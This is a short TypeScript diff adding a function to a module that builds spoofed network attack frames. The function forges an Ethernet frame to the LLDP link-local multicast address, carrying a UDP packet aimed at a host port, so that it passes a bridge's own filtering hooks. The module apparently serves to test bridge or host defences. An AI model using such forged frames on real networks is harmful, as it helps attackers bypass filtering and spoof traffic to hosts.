@@ -77,6 +77,12 @@ function arp(o: {
   );
 }
 
+/** To the group of LLDP, which a bridge hands to the host past its own hooks; forged, for a port of the host. */
+export function linkLocalGroupFrame(me: Attacker, host: string, port: number): string {
+  const body = packet4('10.77.1.99', host, 17, udp(1000, port, text('group')));
+  return `0180c200000e${mac(me.mac)}0800${body}`;
+}
+
 export function attackFrames(me: Attacker, victim: Victim, gateway: string): Frame[] {
   const to = mac(victim.mac);
   const plain = (type: string, body: string, from = me.mac) => `${to}${mac(from)}${type}${body}`;
